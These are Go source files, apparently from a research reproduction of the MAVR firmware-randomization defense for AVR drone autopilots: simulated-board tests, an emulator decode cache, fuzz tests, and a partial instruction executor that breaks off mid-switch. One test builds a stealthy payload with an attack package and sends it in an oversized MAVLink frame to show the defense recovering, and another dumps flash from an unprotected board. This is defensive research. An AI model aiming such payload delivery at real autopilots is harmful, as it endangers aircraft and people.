	sys := board.NewSystem(board.SystemConfig{Unprotected: true})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	if err := sys.Run(50 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if got := len(sys.DrainGCS()); got < firmware.PulseSize {
		t.Errorf("telemetry bytes = %d, want pulses", got)
	}
	if sys.LastFault() != nil {
		t.Errorf("unexpected fault: %v", sys.LastFault())
	}
}

func TestMAVRBoardRandomizesOnBoot(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 5}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	rep, err := sys.Boot()
	if err != nil {
		t.Fatal(err)
	}
	if !rep.Randomized {
		t.Fatal("first boot did not randomize")
	}
	if rep.ImageBytes != len(img.Flash) {
		t.Errorf("programmed %d bytes, want %d", rep.ImageBytes, len(img.Flash))
	}
	wantMs := int64(rep.ImageBytes) * 10 * 1000 / board.DefaultProgramBaud
	if got := rep.Total.Milliseconds(); got != wantMs {
		t.Errorf("startup overhead %dms, want %dms (115200-baud bottleneck)", got, wantMs)
	}
	// The board must fly after randomization.
	if err := sys.Run(50 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if sys.LastFault() != nil {
		t.Fatalf("randomized firmware faulted: %v", sys.LastFault())
	}
	if len(sys.DrainGCS()) == 0 {
		t.Error("no telemetry from randomized firmware")
	}
}

func TestReadoutProtectionFuse(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.App.ReadFlashExternally(); !errors.Is(err, board.ErrReadoutProtected) {
		t.Errorf("readout succeeded despite fuse: %v", err)
	}
	// On the unprotected board a debugger can dump the binary.
	open := board.NewSystem(board.SystemConfig{Unprotected: true})
	if err := open.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := open.Boot(); err != nil {
		t.Fatal(err)
	}
	dump, err := open.App.ReadFlashExternally()
	if err != nil {
		t.Fatal(err)
	}
	if len(dump) == 0 {
		t.Error("empty dump from unprotected board")
	}
}

func TestRandomizeEveryPolicy(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{RandomizeEvery: 3, Seed: 1}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	randomized := 0
	for i := 0; i < 6; i++ {
		rep, err := sys.Boot()
		if err != nil {
			t.Fatal(err)
		}
		if rep.Randomized {
			randomized++
		}
	}
	if randomized != 2 {
		t.Errorf("randomized %d of 6 boots, want 2 (every 3rd)", randomized)
	}
	if got := sys.Master.Stats().ProgramCycles; got != 2 {
		t.Errorf("program cycles = %d, want 2 (flash endurance accounting)", got)
	}
}

// A stale stealthy payload against the randomized board makes the
// application processor execute garbage; the master's timing analysis
// detects the missing feeds and reflashes with a fresh permutation —
// the §V-C/§VII-A recovery loop.
func TestWatchdogDetectsFailedAttackAndReflashes(t *testing.T) {
	img := testImage(t)
	a, err := attack.Analyze(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	payload, err := attack.BuildV2(a, attack.GyroCfgWrite(0x55))
	if err != nil {
		t.Fatal(err)
	}

	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{
		Seed:            42,
		WatchdogTimeout: 20 * time.Millisecond,
	}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	if err := sys.Run(30 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	permBefore := sys.Master.CurrentPerm()

	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
	sys.SendToUAV(fr.MarshalOversize())
	// Enough simulated time for delivery, crash, detection and reflash.
	if err := sys.Run(3 * time.Second); err != nil {
		t.Fatal(err)
	}
	if got := sys.Master.Stats().FailuresDetected; got == 0 {
		t.Fatal("watchdog never detected the failed attack")
	}
	if len(sys.Reflashes()) == 0 {
		t.Fatal("no reflash after detection")
	}
	permAfter := sys.Master.CurrentPerm()
	same := len(permBefore) == len(permAfter)
	if same {
		for i := range permBefore {
			if permBefore[i] != permAfter[i] {
				same = false
				break
			}
		}
	}
	if same {
		t.Error("reflash reused the same permutation")
	}
	// The vehicle must be flying again.
	sys.DrainGCS()
	if err := sys.Run(50 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if len(sys.DrainGCS()) == 0 {
		t.Error("no telemetry after recovery reflash")
	}
	if got := sys.App.CPU.Data[firmware.AddrGyroCfg]; got == 0x55 {
		t.Error("attack write persisted through reflash")
	}
}

// A legitimate parameter write must work end-to-end over the telemetry
// link on a randomized board.
func TestParamSetOverTelemetryOnMAVRBoard(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 9}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	if _, err := sys.Boot(); err != nil {
		t.Fatal(err)
	}
	ps := &mavlink.ParamSet{ParamID: "RATE_RLL_P", ParamValue: 1.25}
	payload := ps.Marshal()
	fr := &mavlink.Frame{MsgID: mavlink.MsgIDParamSet, Payload: payload}
	wire, err := fr.Marshal()
	if err != nil {
		t.Fatal(err)
	}
	sys.SendToUAV(wire)
	if err := sys.Run(100 * time.Millisecond); err != nil {
		t.Fatal(err)
	}
	if sys.LastFault() != nil {
		t.Fatalf("fault: %v", sys.LastFault())
	}
	got := sys.App.CPU.Data[firmware.AddrParamVal : firmware.AddrParamVal+4]
	for i := 0; i < 4; i++ {
		if got[i] != payload[i] {
			t.Fatalf("param value % X, want % X", got, payload[:4])
		}
	}
}

func TestExternalFlashCapacity(t *testing.T) {
	img := testImage(t)
	pre, err := core.Preprocess(img.ELF)
	if err != nil {
		t.Fatal(err)
	}
	small := board.NewExternalFlash(1024)
	if err := small.Store(pre); !errors.Is(err, board.ErrFlashFull) {
		t.Errorf("want ErrFlashFull, got %v", err)
	}
	chip := board.NewExternalFlash(0)
	if err := chip.Store(pre); err != nil {
		t.Fatal(err)
	}
	if chip.Used() <= len(pre.Image) {
		t.Error("stored size must include symbol information")
	}
	if _, err := chip.Load(); err != nil {
		t.Error(err)
	}
	if _, err := board.NewExternalFlash(0).Load(); err == nil {
		t.Error("empty chip loaded successfully")
	}
}

// Table II: the full ArduPlane image programs in ~19209 ms at 115200
// baud on the simulated clock.
func TestTableIIStartupOverheadArduplane(t *testing.T) {
	if testing.Short() {
		t.Skip("full-size generation")
	}
	img, err := firmware.Generate(firmware.Arduplane(), firmware.ModeMAVR)
	if err != nil {
		t.Fatal(err)
	}
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 2}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	rep, err := sys.Boot()
	if err != nil {
		t.Fatal(err)
	}
	ms := rep.Total.Milliseconds()
	if ms < 19100 || ms > 19300 {
		t.Errorf("ArduPlane startup overhead = %d ms, paper reports 19209 ms", ms)
	}
	// The external flash must fit ArduPlane + symbols, but only barely
	// (§VI-B2's "perilously close" remark).
	used, cap := sys.Flash.Used(), sys.Flash.Capacity()
	if used > cap {
		t.Fatalf("flash overflow: %d > %d", used, cap)
	}
	if float64(used)/float64(cap) < 0.8 {
		t.Errorf("flash usage %d/%d — expected close to capacity", used, cap)
	}
}

// A corrupted external flash (bit rot or tampering) must surface as a
// randomize-time error, not silent mis-programming.
func TestMasterFailsOnCorruptExternalFlash(t *testing.T) {
	img := testImage(t)
	sys := board.NewSystem(board.SystemConfig{Master: board.MasterConfig{Seed: 1}})
	if err := sys.FlashFirmware(img); err != nil {
		t.Fatal(err)
	}
	pre, err := sys.Flash.Load()
	if err != nil {
		t.Fatal(err)
	}
	// Corrupt the stored image inside a function body so the patch walk
	// desynchronizes: four consecutive 0xFFFF words guarantee an
	// invalid opcode regardless of instruction alignment.
	off := int(pre.RegionStart) + 64
	for i := 0; i < 8; i++ {
		pre.Image[off+i] = 0xFF
	}
	if _, err := sys.Boot(); err == nil {
		t.Error("boot succeeded with a corrupted external flash image")
	}
}
