package avr

// Predecoded instruction cache.
//
// Every workload in this reproduction — attack delivery, boot-time
// re-randomization, timing analysis — bottoms out in the CPU dispatch
// loop. Re-decoding the same flash words on every executed cycle is
// pure waste: flash only changes through a handful of well-defined
// channels. The cache decodes each flash word once into a side table
// indexed by PC and serves subsequent fetches from it.
//
// Invalidation contract (load-bearing for MAVR, whose whole defense is
// rewriting flash under the application):
//
//   - LoadFlash replaces the entire image        -> full invalidation
//   - SPM page erase/write (spm.go)              -> page invalidated
//   - external writes (bootloader installation,
//     board-level programming)                   -> caller invalidates
//     via InvalidateFlash
//
// A range invalidation always extends one word before the modified
// region: that word may be the first word of a two-word instruction
// whose second word just changed.
//
// The table is allocated lazily on first fetch so CPUs that never
// execute (attacker analysis copies, disassembly helpers) pay nothing.

// fetch returns the decoded instruction at word address pc, decoding
// and caching it on a miss. pc must be < FlashWords.
func (c *CPU) fetch(pc uint32) Instr {
	if c.decValid == nil {
		c.decoded = make([]Instr, FlashWords)
		c.decValid = make([]uint64, FlashWords/64)
	}
	if c.decValid[pc>>6]&(1<<(pc&63)) != 0 {
		return c.decoded[pc]
	}
	w0 := wordAt(c.Flash, pc)
	var w1 uint16
	if pc+1 < FlashWords {
		w1 = wordAt(c.Flash, pc+1)
	}
	in := Decode(w0, w1)
	c.decoded[pc] = in
	c.decValid[pc>>6] |= 1 << (pc & 63)
	return in
}

// InvalidateFlash marks n flash bytes starting at byte address start as
// modified, evicting the affected decode-cache lines. Code that writes
// c.Flash directly (the board's bootloader installation, external
// programmers) must call this; the CPU's own flash channels (LoadFlash,
// SPM) invalidate automatically.
func (c *CPU) InvalidateFlash(start, n uint32) {
	c.bumpPageGens(start, n) // translated blocks share the contract
	if c.decValid == nil || n == 0 {
		return
	}
	lo := start / 2
	if lo > 0 {
		lo-- // previous word may hold a two-word instruction's first half
	}
	hi := (start + n + 1) / 2 // exclusive word bound
	if hi > FlashWords {
		hi = FlashWords
	}
	// Clear whole 64-bit blocks where possible; bit-by-bit at the edges.
	for lo < hi && lo&63 != 0 {
		c.decValid[lo>>6] &^= 1 << (lo & 63)
		lo++
	}
	for lo+64 <= hi {
		c.decValid[lo>>6] = 0
		lo += 64
	}
	for lo < hi {
		c.decValid[lo>>6] &^= 1 << (lo & 63)
		lo++
	}
}

// InvalidateAllFlash evicts every decode-cache line and every
// translated block.
func (c *CPU) InvalidateAllFlash() {
	for i := range c.decValid {
		c.decValid[i] = 0
	}
	c.bumpAllPageGens()
}
