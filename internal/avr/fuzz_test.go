package avr

// Internal test: the decode cache's fetch path is unexported, and the
// whole point is proving it indistinguishable from uncached decoding.

import (
	"testing"
)

// FuzzDecode feeds arbitrary flash contents to the decoder. Invariants:
// Decode never panics, InstrWords always agrees with Decode on the
// instruction length, and the CPU's predecoded cache returns exactly
// what uncached decoding returns — before and after a flash rewrite
// with invalidation, the scenario MAVR's re-randomization produces.
func FuzzDecode(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{0x0C, 0x94, 0x34, 0x12}) // jmp
	f.Add([]byte{0x0E, 0x94, 0x00, 0x00}) // call
	f.Add([]byte{0x08, 0x95, 0x18, 0x95}) // ret, reti
	f.Add([]byte{0xE8, 0x95, 0x09, 0x94}) // spm, ijmp
	f.Add([]byte{0xFF, 0xFF, 0xFF, 0xFF}) // erased flash
	f.Add([]byte{0x0C, 0x94})             // two-word instr cut short
	f.Add(make([]byte, 512))              // a page of nops

	cpu := New()
	f.Fuzz(func(t *testing.T, image []byte) {
		if len(image) > 4096 {
			image = image[:4096]
		}
		if err := cpu.LoadFlash(image); err != nil {
			t.Fatal(err)
		}
		words := uint32((len(image) + 1) / 2)
		for pc := uint32(0); pc <= words && pc+1 < FlashWords; pc++ {
			plain := Decode(wordAt(cpu.Flash, pc), wordAt(cpu.Flash, pc+1))
			if got := InstrWords(wordAt(cpu.Flash, pc)); got != plain.Words {
				t.Fatalf("pc %d: InstrWords = %d, Decode.Words = %d", pc, got, plain.Words)
			}
			if streamed := DecodeAt(cpu.Flash, pc); streamed != plain {
				t.Fatalf("pc %d: DecodeAt = %+v, Decode = %+v", pc, streamed, plain)
			}
			if cached := cpu.fetch(pc); cached != plain {
				t.Fatalf("pc %d: cached fetch = %+v, uncached = %+v", pc, cached, plain)
			}
			// A second fetch is a guaranteed cache hit; it must not decay.
			if hit := cpu.fetch(pc); hit != plain {
				t.Fatalf("pc %d: cache hit = %+v, uncached = %+v", pc, hit, plain)
			}
		}

		// Rewrite the image in place (byte-flip the whole extent), as a
		// randomization pass would, and invalidate: the cache must track.
		for i := range image {
			cpu.Flash[i] ^= 0xA5
		}
		cpu.InvalidateFlash(0, uint32(len(image)))
		for pc := uint32(0); pc <= words && pc+1 < FlashWords; pc++ {
			plain := Decode(wordAt(cpu.Flash, pc), wordAt(cpu.Flash, pc+1))
			if cached := cpu.fetch(pc); cached != plain {
				t.Fatalf("pc %d after rewrite: cached = %+v, uncached = %+v", pc, cached, plain)
			}
		}
	})
}
