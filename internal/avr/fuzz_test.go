package avr

// Internal test: the decode cache's fetch path is unexported, and the
// whole point is proving it indistinguishable from uncached decoding.

import (
	"bytes"
	"fmt"
	"testing"
)

// FuzzDecode feeds arbitrary flash contents to the decoder. Invariants:
// Decode never panics, InstrWords always agrees with Decode on the
// instruction length, and the CPU's predecoded cache returns exactly
// what uncached decoding returns — before and after a flash rewrite
// with invalidation, the scenario MAVR's re-randomization produces.
func FuzzDecode(f *testing.F) {
	f.Add([]byte{})
	f.Add([]byte{0x0C, 0x94, 0x34, 0x12}) // jmp
	f.Add([]byte{0x0E, 0x94, 0x00, 0x00}) // call
	f.Add([]byte{0x08, 0x95, 0x18, 0x95}) // ret, reti
	f.Add([]byte{0xE8, 0x95, 0x09, 0x94}) // spm, ijmp
	f.Add([]byte{0xFF, 0xFF, 0xFF, 0xFF}) // erased flash
	f.Add([]byte{0x0C, 0x94})             // two-word instr cut short
	f.Add(make([]byte, 512))              // a page of nops

	cpu := New()
	f.Fuzz(func(t *testing.T, image []byte) {
		if len(image) > 4096 {
			image = image[:4096]
		}
		if err := cpu.LoadFlash(image); err != nil {
			t.Fatal(err)
		}
		words := uint32((len(image) + 1) / 2)
		for pc := uint32(0); pc <= words && pc+1 < FlashWords; pc++ {
			plain := Decode(wordAt(cpu.Flash, pc), wordAt(cpu.Flash, pc+1))
			if got := InstrWords(wordAt(cpu.Flash, pc)); got != plain.Words {
				t.Fatalf("pc %d: InstrWords = %d, Decode.Words = %d", pc, got, plain.Words)
			}
			if streamed := DecodeAt(cpu.Flash, pc); streamed != plain {
				t.Fatalf("pc %d: DecodeAt = %+v, Decode = %+v", pc, streamed, plain)
			}
			if cached := cpu.fetch(pc); cached != plain {
				t.Fatalf("pc %d: cached fetch = %+v, uncached = %+v", pc, cached, plain)
			}
			// A second fetch is a guaranteed cache hit; it must not decay.
			if hit := cpu.fetch(pc); hit != plain {
				t.Fatalf("pc %d: cache hit = %+v, uncached = %+v", pc, hit, plain)
			}
		}

		// Rewrite the image in place (byte-flip the whole extent), as a
		// randomization pass would, and invalidate: the cache must track.
		for i := range image {
			cpu.Flash[i] ^= 0xA5
		}
		cpu.InvalidateFlash(0, uint32(len(image)))
		for pc := uint32(0); pc <= words && pc+1 < FlashWords; pc++ {
			plain := Decode(wordAt(cpu.Flash, pc), wordAt(cpu.Flash, pc+1))
			if cached := cpu.fetch(pc); cached != plain {
				t.Fatalf("pc %d after rewrite: cached = %+v, uncached = %+v", pc, cached, plain)
			}
		}
	})
}

// FuzzBlockExec is the differential conformance harness for the block
// translation engine: the same flash image, register seed and stimulus
// plan run on a ForceInterpreter CPU and a block-engine CPU in
// lockstep, and every observable piece of state — registers, I/O,
// SRAM, PC, cycle count, sleep state, interrupt latches and faults —
// must match after every Run slice. Rounds repeat the image so entry
// PCs cross the heat threshold and later rounds execute translated
// blocks; the plan byte toggles interrupts between slices, an I/O
// write hook that raises an interrupt mid-block, and a mid-corpus
// flash rewrite with invalidation.
func FuzzBlockExec(f *testing.F) {
	f.Add([]byte{0x00, 0x00, 0x00, 0x00}, []byte{1, 2, 3}, byte(0))
	// ldi r16,0x42 ; ldi r17,1 ; add r16,r17 ; rjmp .-8
	f.Add([]byte{0x02, 0xE4, 0x11, 0xE0, 0x01, 0x0F, 0xFC, 0xCF}, []byte{0xFF}, byte(1))
	// sei ; out 0x20,r16 ; nop ; rjmp .-8 (hook + SEI delay window)
	f.Add([]byte{0x78, 0x94, 0x00, 0xB9, 0x00, 0x00, 0xFC, 0xCF}, []byte{0x80}, byte(3))
	// push r0 x3 ; ret (stack traffic, PopPC of garbage)
	f.Add([]byte{0x0F, 0x92, 0x0F, 0x92, 0x0F, 0x92, 0x08, 0x95}, []byte{7}, byte(2))
	// cp/cpc chain into brbs (flag liveness across a branch)
	f.Add([]byte{0x01, 0x17, 0x12, 0x07, 0x11, 0xF0, 0xFC, 0xCF}, []byte{9, 9, 1}, byte(5))
	f.Add([]byte{0xFF, 0xFF, 0xFF, 0xFF, 0xFF, 0xFF}, []byte{}, byte(8))

	f.Fuzz(func(t *testing.T, image, regs []byte, plan byte) {
		if len(image) == 0 {
			return
		}
		if len(image) > 2048 {
			image = image[:2048]
		}
		hookAddr := uint16(IOBase + int(plan&0x3F))
		budgets := []uint64{1, 3, 17, 151, 1024, 4096}

		mk := func(force bool) *CPU {
			c := New()
			c.ForceInterpreter = force
			if err := c.LoadFlash(image); err != nil {
				t.Fatal(err)
			}
			if plan&2 != 0 {
				c.HookWrite(hookAddr, func(byte) { c.RaiseInterrupt(VectorTimer0Ovf) })
			}
			if plan&4 != 0 {
				c.HookRead(hookAddr, func(cur byte) byte { return cur ^ 0x5A })
			}
			return c
		}
		ref := mk(true)
		blk := mk(false)

		seed := func(c *CPU) {
			c.Reset()
			for i := 0; i < len(regs) && i < 32; i++ {
				c.Data[i] = regs[i]
			}
			if len(regs) > 0 {
				c.SetSREG(regs[0])
			}
		}
		state := func(c *CPU) string {
			return fmt.Sprintf("pc=%d cyc=%d sleep=%v supp=%v pend=%d fault=%+v",
				c.PC, c.Cycles, c.Sleeping, c.intSuppress, c.pendingInts, c.Fault())
		}

		for round := 0; round < 6; round++ {
			seed(ref)
			seed(blk)
			if plan&8 != 0 && round == 3 {
				// Mid-corpus reprogramming, as MAVR's re-randomizer
				// does: both CPUs rewrite and invalidate identically,
				// so stale translations must retranslate.
				n := len(image)
				if n > 64 {
					n = 64
				}
				for _, c := range []*CPU{ref, blk} {
					for i := 0; i < n; i++ {
						c.Flash[i] ^= 0xA5
					}
					c.InvalidateFlash(0, uint32(n))
				}
			}
			for s, budget := range budgets {
				ref.Run(budget)
				blk.Run(budget)
				if rs, bs := state(ref), state(blk); rs != bs {
					t.Fatalf("round %d slice %d (budget %d): interp %s != block %s", round, s, budget, rs, bs)
				}
				if !bytes.Equal(ref.Data, blk.Data) {
					for i := range ref.Data {
						if ref.Data[i] != blk.Data[i] {
							t.Fatalf("round %d slice %d: data[0x%04X] interp %02X != block %02X",
								round, s, i, ref.Data[i], blk.Data[i])
						}
					}
				}
				if plan&1 != 0 {
					ref.RaiseInterrupt(VectorTimer0Ovf)
					blk.RaiseInterrupt(VectorTimer0Ovf)
				}
			}
		}
	})
}
