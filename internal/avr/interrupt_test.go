package avr_test

import (
	"testing"

	"mavr/internal/asm"
	"mavr/internal/avr"
)

// buildIntProgram assembles a program with a vector table whose
// TIMER0_OVF slot jumps to a counting handler.
func buildIntProgram(t *testing.T, body string) []byte {
	t.Helper()
	src := `
		jmp start        ; vector 0 (reset)
	.org 0x2E            ; vector 23 (TIMER0_OVF) at word 23*2
		jmp handler
	.org 0x80
	handler:
		push r24
		in r24, 0x3f
		push r24
		lds r24, 0x0400
		inc r24
		sts 0x0400, r24
		pop r24
		out 0x3f, r24
		pop r24
		reti
	.org 0x100
	start:
` + body
	img, err := asm.Assemble(src)
	if err != nil {
		t.Fatal(err)
	}
	return img
}

func TestInterruptDispatchAndReti(t *testing.T) {
	img := buildIntProgram(t, `
		sei
	spin:
		inc r20
		rjmp spin
	`)
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 50 && c.Step() == nil; i++ {
	}
	c.RaiseInterrupt(avr.VectorTimer0Ovf)
	for i := 0; i < 100 && c.Step() == nil; i++ {
	}
	if got := c.Data[0x0400]; got != 1 {
		t.Errorf("handler ran %d times, want 1", got)
	}
	if c.Fault() != nil {
		t.Fatalf("fault: %v", c.Fault())
	}
	// The main loop must have resumed (r20 still incrementing).
	before := c.Reg(20)
	for i := 0; i < 20 && c.Step() == nil; i++ {
	}
	if c.Reg(20) == before {
		t.Error("main program did not resume after reti")
	}
	// I flag restored by reti.
	if !c.Flag(avr.FlagI) {
		t.Error("I flag clear after reti")
	}
}

func TestInterruptMaskedWhenIClear(t *testing.T) {
	img := buildIntProgram(t, `
	spin:
		inc r20
		rjmp spin
	`)
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	c.RaiseInterrupt(avr.VectorTimer0Ovf)
	for i := 0; i < 200 && c.Step() == nil; i++ {
	}
	if got := c.Data[0x0400]; got != 0 {
		t.Errorf("handler ran with I clear (%d times)", got)
	}
	if !c.PendingInterrupts() {
		t.Error("pending interrupt lost")
	}
}

func TestInterruptWakesSleep(t *testing.T) {
	img := buildIntProgram(t, `
		sei
		sleep
		ldi r21, 0x99
	halt:
		rjmp halt
	`)
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	// Run into sleep.
	for i := 0; i < 600; i++ {
		if err := c.Step(); err != nil {
			break
		}
	}
	if !c.Sleeping {
		t.Fatal("CPU did not sleep")
	}
	c.RaiseInterrupt(avr.VectorTimer0Ovf)
	for i := 0; i < 100 && c.Step() == nil; i++ {
	}
	if c.Data[0x0400] != 1 {
		t.Error("handler did not run after wake")
	}
	if c.Reg(21) != 0x99 {
		t.Error("execution did not continue after sleep")
	}
}

// The SEI one-instruction delay: the instruction immediately after sei
// must execute before a pending interrupt is taken. This is the
// hardware property that makes the Fig. 4 epilogue's split SP write
// safe.
func TestSEIOneInstructionDelay(t *testing.T) {
	img := buildIntProgram(t, `
		sei
		ldi r22, 0x55  ; must run before the pending interrupt
	spin:
		rjmp spin
	`)
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	// Run to the start label (word 0x100).
	ok, _ := c.RunUntil(10_000, func(c *avr.CPU) bool { return c.PC == 0x100 })
	if !ok {
		t.Fatal("never reached start")
	}
	c.RaiseInterrupt(avr.VectorTimer0Ovf)
	// Step 1: sei. Step 2: must be ldi (delay), NOT the vector.
	if err := c.Step(); err != nil {
		t.Fatal(err)
	}
	if err := c.Step(); err != nil {
		t.Fatal(err)
	}
	if got := c.Reg(22); got != 0x55 {
		t.Errorf("instruction after sei preempted (r22=0x%02X)", got)
	}
	// Step 3 takes the interrupt.
	if err := c.Step(); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 60 && c.Step() == nil; i++ {
	}
	if c.Data[0x0400] != 1 {
		t.Error("interrupt never taken after the delay slot")
	}
}

// The split stack-pointer write idiom must be atomic with respect to
// interrupts: in r0,SREG; cli; out SPH; out SREG (I restored); out SPL.
// An interrupt pending throughout must only be taken after SPL is
// written, never between the two halves.
func TestSPWriteIdiomIsInterruptAtomic(t *testing.T) {
	img := buildIntProgram(t, `
		sei
		ldi r28, 0x80  ; new SP low
		ldi r29, 0x10  ; new SP high -> 0x1080
		in r0, 0x3f
		cli
		out 0x3e, r29
		out 0x3f, r0   ; restores I=1, with one-instruction delay
		out 0x3d, r28
	spin:
		rjmp spin
	`)
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	ok, _ := c.RunUntil(10_000, func(c *avr.CPU) bool { return c.PC == 0x100 })
	if !ok {
		t.Fatal("never reached start")
	}
	c.RaiseInterrupt(avr.VectorTimer0Ovf)
	// Run until the handler has executed.
	ok, fault := c.RunUntil(10_000, func(c *avr.CPU) bool { return c.Data[0x0400] == 1 })
	if !ok {
		t.Fatalf("handler never ran (fault: %v)", fault)
	}
	// The interrupt's pushes must have used the NEW, fully written SP
	// (0x1080), i.e. the return address lives just below it.
	// After the handler completes and reti pops, SP is back to 0x1080.
	ok, fault = c.RunUntil(10_000, func(c *avr.CPU) bool {
		return !c.PendingInterrupts() && c.SP() == 0x1080
	})
	if !ok {
		t.Fatalf("SP = 0x%04X after handler, want 0x1080 (fault: %v)", c.SP(), fault)
	}
	if c.Fault() != nil {
		t.Fatalf("fault: %v", c.Fault())
	}
}

func TestEEPROMReadWrite(t *testing.T) {
	img, err := asm.Assemble(`
		; write 0xAB to EEPROM[0x0102]
		ldi r24, 0x02
		out 0x21, r24  ; EEARL
		ldi r24, 0x01
		out 0x22, r24  ; EEARH
		ldi r24, 0xAB
		out 0x20, r24  ; EEDR
		sbi 0x1f, 2    ; EEMPE
		sbi 0x1f, 1    ; EEPE
		; read it back
		ldi r24, 0x00
		out 0x20, r24  ; clear EEDR
		sbi 0x1f, 0    ; EERE
		in r25, 0x20
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 40 && c.Step() == nil; i++ {
	}
	if got := c.EEPROM[0x0102]; got != 0xAB {
		t.Errorf("EEPROM[0x0102] = 0x%02X, want 0xAB", got)
	}
	if got := c.Reg(25); got != 0xAB {
		t.Errorf("read back 0x%02X, want 0xAB", got)
	}
}

func TestEEPROMWriteRequiresArming(t *testing.T) {
	img, err := asm.Assemble(`
		ldi r24, 0x00
		out 0x21, r24
		out 0x22, r24
		ldi r24, 0xCD
		out 0x20, r24
		sbi 0x1f, 1    ; EEPE without EEMPE: must be ignored
		sleep
	`)
	if err != nil {
		t.Fatal(err)
	}
	c := avr.New()
	if err := c.LoadFlash(img); err != nil {
		t.Fatal(err)
	}
	for i := 0; i < 30 && c.Step() == nil; i++ {
	}
	if got := c.EEPROM[0]; got != 0 {
		t.Errorf("unarmed EEPE wrote EEPROM (0x%02X)", got)
	}
}

func TestEEPROMSurvivesReset(t *testing.T) {
	c := avr.New()
	c.EEPROM[7] = 0x42
	c.Reset()
	if c.EEPROM[7] != 0x42 {
		t.Error("reset cleared EEPROM (it is persistent storage)")
	}
	if err := c.LoadFlash([]byte{0x00, 0x00}); err != nil {
		t.Fatal(err)
	}
	if c.EEPROM[7] != 0x42 {
		t.Error("reprogramming cleared EEPROM")
	}
}
