package avr

// Approximate cycle costs. Branch/skip costs are adjusted at execution
// time. These follow the ATmega2560 datasheet for the common cases.
func baseCycles(op Op) uint64 {
	switch op {
	case OpJMP:
		return 3
	case OpCALL:
		return 5 // 3-byte PC device
	case OpRCALL:
		return 4
	case OpRJMP, OpIJMP, OpADIW, OpSBIW, OpPUSH, OpPOP, OpMUL, OpMULS, OpMULSU, OpFMUL,
		OpLDX, OpLDXInc, OpLDXDec, OpLDYInc, OpLDYDec, OpLDZInc, OpLDZDec,
		OpLDDY, OpLDDZ, OpSTX, OpSTXInc, OpSTXDec, OpSTYInc, OpSTYDec,
		OpSTZInc, OpSTZDec, OpSTDY, OpSTDZ, OpLDS, OpSTS, OpCBI, OpSBI:
		return 2
	case OpEIJMP:
		return 2
	case OpICALL, OpEICALL:
		return 4
	case OpRET, OpRETI:
		return 5 // 3-byte PC device
	case OpLPM, OpLPMZ, OpLPMZInc, OpELPM, OpELPMZ, OpELPMZInc:
		return 3
	}
	return 1
}

func (c *CPU) exec(in Instr) {
	next := c.PC + uint32(in.Words)
	c.Cycles += baseCycles(in.Op)

	switch in.Op {
	case OpInvalid:
		c.raise(FaultInvalidOpcode, wordAt(c.Flash, c.PC))
		return

	case OpNOP, OpWDR:
		// WDR is handled by the board model, not the core.

	case OpSPM:
		c.execSPM()

	case OpSLEEP:
		c.Sleeping = true

	case OpBREAK:
		c.raise(FaultBreak, wordAt(c.Flash, c.PC))
		return

	case OpMOVW:
		c.SetRegPair(in.D, c.RegPair(in.R))

	case OpADD:
		c.SetReg(in.D, c.addFlags(c.Reg(in.D), c.Reg(in.R), false))
	case OpADC:
		c.SetReg(in.D, c.addFlags(c.Reg(in.D), c.Reg(in.R), c.Flag(FlagC)))
	case OpSUB:
		c.SetReg(in.D, c.subFlags(c.Reg(in.D), c.Reg(in.R), false, false))
	case OpSBC:
		c.SetReg(in.D, c.subFlags(c.Reg(in.D), c.Reg(in.R), c.Flag(FlagC), true))
	case OpSUBI:
		c.SetReg(in.D, c.subFlags(c.Reg(in.D), byte(in.K), false, false))
	case OpSBCI:
		c.SetReg(in.D, c.subFlags(c.Reg(in.D), byte(in.K), c.Flag(FlagC), true))
	case OpCP:
		c.subFlags(c.Reg(in.D), c.Reg(in.R), false, false)
	case OpCPC:
		c.subFlags(c.Reg(in.D), c.Reg(in.R), c.Flag(FlagC), true)
	case OpCPI:
		c.subFlags(c.Reg(in.D), byte(in.K), false, false)

	case OpAND:
		c.SetReg(in.D, c.logicFlags(c.Reg(in.D)&c.Reg(in.R)))
	case OpANDI:
		c.SetReg(in.D, c.logicFlags(c.Reg(in.D)&byte(in.K)))
	case OpOR:
		c.SetReg(in.D, c.logicFlags(c.Reg(in.D)|c.Reg(in.R)))
	case OpORI:
